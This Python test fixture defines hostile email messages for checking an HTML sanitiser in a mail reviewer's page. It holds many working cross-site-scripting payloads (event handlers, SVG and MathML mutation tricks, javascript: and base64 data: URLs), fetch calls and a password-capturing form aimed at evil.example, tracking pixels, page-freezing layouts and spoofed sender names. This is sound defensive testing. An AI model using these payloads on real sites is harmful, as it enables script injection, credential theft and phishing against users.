"""Messages that want to run a script in the reviewer's browser, to be seen by their sender, or to look like another.

Each script would set `document.title` to PWNED or ask EVIL for something; each layout would cover or slow the page.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

EVIL = "https://evil.example"
RUN = f"document.title='PWNED';fetch('{EVIL}/ran')"
_ENCODED = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()


@dataclass(frozen=True, slots=True)
class Hostile:
    """A message: what it tries, its HTML, and what it says in its header."""

    name: str
    html: str
    author: str = "Lea Brandt <lea@mail.example>"
    subject: str = "My bicycle"


MESSAGES = (
    Hostile("script", f"<p>When are you open?</p><script>{RUN}</script>"),
    Hostile("script from elsewhere", f"<script src={EVIL}/x.js></script>When are you open?"),
    Hostile("script in pieces", f"<scr<script>ipt>{RUN}</scr</script>ipt>When are you open?"),
    Hostile("script left open", f"When are you open?<script>{RUN}"),
    Hostile("script with a slash", f"<script/x>{RUN}</script/y>When are you open?"),
    Hostile("a module", f"<script type=module>{RUN}</script><script type=importmap>{{}}</script>"),
    Hostile("onerror", f"<img src=x: onerror=\"{RUN}\">"),
    Hostile("onload", f"<body onload=\"{RUN}\">When are you open?</body>"),
    Hostile("onerror without quotes", "<img src=x onerror=document.title=`PWNED`//"),
    Hostile("autofocus", f"<input autofocus onfocus=\"{RUN}\"><select autofocus onfocus=\"{RUN}\"></select>"),
    Hostile("details", f"<details open ontoggle=\"{RUN}\"><summary>x</summary>y</details>"),
    Hostile("animation", f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart=\"{RUN}\">y</p>"),
    Hostile("marquee", f"<marquee onstart=\"{RUN}\">x</marquee>"),
    Hostile("video", f"<video src=x onerror=\"{RUN}\" poster={EVIL}/p.png></video><audio src=x onerror=\"{RUN}\">"),
    Hostile("svg script", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>"),
    Hostile("svg onload", f"<svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>"),
    Hostile("svg use", f"<svg><use href='data:image/svg+xml;base64,{_ENCODED}#x'></use></svg>"),
    Hostile(
        "svg foreignObject",
        f"<svg><foreignObject><iframe srcdoc=\"<script>{RUN}</script>\"></foreignObject></svg>",
    ),
    Hostile(
        "math",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\"></style></mglyph></table></mtext></math>",
    ),
    Hostile("mutation", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>"),
    Hostile(
        "mutation by a template",
        f"<template><s><template><img src=x onerror=\"{RUN}\"></template></s></template>",
    ),
    Hostile("comment", f"<!--><img src=x onerror=\"{RUN}\">--><![CDATA[<script>{RUN}</script>]]>"),
    Hostile("frame", f"<iframe src=\"javascript:{RUN}\"></iframe><iframe src={EVIL}/frame></iframe>"),
    Hostile("frame with a document", f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>"),
    Hostile("object", f"<object data='data:text/html;base64,{_ENCODED}'></object><embed src={EVIL}/x.swf>"),
    Hostile("link of script", f"<a href=\"javascript:{RUN}\">click</a><a href=\"&#106;avascript:{RUN}\">here</a>"),
    Hostile("link of data", f"<a href='data:text/html;base64,{_ENCODED}' target=_top>click</a>"),
    Hostile("meta", f"<meta http-equiv=refresh content='0;url={EVIL}/gone'><base href={EVIL}/>"),
    Hostile(
        "form",
        f"<form action={EVIL}/form><input name=password><button formaction={EVIL}/b>Sign in</button></form>",
    ),
    Hostile("a form around ours", "</section></main><form id=letter action=https://evil.example/letter method=post>"),
    Hostile("style sheet", f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/p>"),
    Hostile("style import", f"<style>@import url({EVIL}/x.css);body{{background:url({EVIL}/b.png)}}</style>x"),
    Hostile("style url", f"<p style=\"background:url({EVIL}/b.png);list-style:url({EVIL}/l.png)\">x</p>"),
    Hostile(
        "style that covers",
        "<div style='position:fixed;inset:0;z-index:99999;background:red'>Your session ended</div>",
    ),
    Hostile("style that hides ours", "<style>*{display:none!important}</style>When are you open?"),
    Hostile("style escapes", f"<p style=\"background:u\\72l({EVIL}/e.png);width:expression({RUN})\">x</p>"),
    Hostile("a picture that counts", f"<img src={EVIL}/pixel.gif width=1 height=1 alt=''>When are you open?"),
    Hostile(
        "pictures by other names",
        f"<img srcset='{EVIL}/s.png 2x'><picture><source srcset={EVIL}/t.png></picture>",
    ),
    Hostile("pictures of old", f"<table background={EVIL}/t.png><tr><td background={EVIL}/d.png>x</table>"),
    Hostile(
        "pictures without a scheme",
        "<img src=//evil.example/a.png><img src='\\\\evil.example/b.png'><img src='/\\evil.example/c.png'>",
    ),
    Hostile("a picture of ours", "<img src=/sign-out><img src=/message/1/discard><img src=/static/desk.svg>"),
    Hostile("a picture in the mail", f"<img src='data:image/svg+xml;base64,{_ENCODED}'><img src=cid:nothing>"),
    Hostile("a name asked for", "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>"),
    Hostile("deep", "<div>" * 40_000 + "When are you open?"),
    Hostile("deep and bold", "<b><i><u><font>" * 3_000 + "<p>x" * 3_000),
    Hostile("a huge table", "<table>" + f"<tr>{'<td>x</td>' * 100}</tr>" * 150),
    Hostile(
        "a table as wide as the world",
        "<table width=999999999><tr><td colspan=999999999 style='padding:9e9px'>x</td></table>",
    ),
    Hostile("attributes without end", "<p " + " ".join(f"a{number}=1" for number in range(20_000)) + ">x</p>"),
    Hostile("one long word", "x" * 200_000),
    Hostile("a name from right to left", "When are you open?", author="\"\u202egnp.gab\u202c\" <gab@mail.example>"),
    Hostile(
        "a name that is markup",
        "When are you open?", author="\"<img src=x onerror=document.title='PWNED'>\" <i@mail.example>",
    ),
    Hostile("a subject that is markup", "When are you open?", subject=f"</title><script>{RUN}</script>\"'>"),
    Hostile("a subject from right to left", "When are you open?", subject="\u202e\u2066 refund \u05d0\u05d1\u05d2 99"),
    Hostile("a forged sender", "When are you open?", author="\"owner@pedal.example\" <thief@mail.example>"),
    Hostile("braces", "{{ 7*7 }} {% for x in y %} ${7*7} <%= 7*7 %> When are you open?", subject="{{ config }}"),
    Hostile("htmx", f"<div hx-get={EVIL}/h hx-trigger=load data-hx-get={EVIL}/d hx-on:load=\"{RUN}\">x</div>"),
)
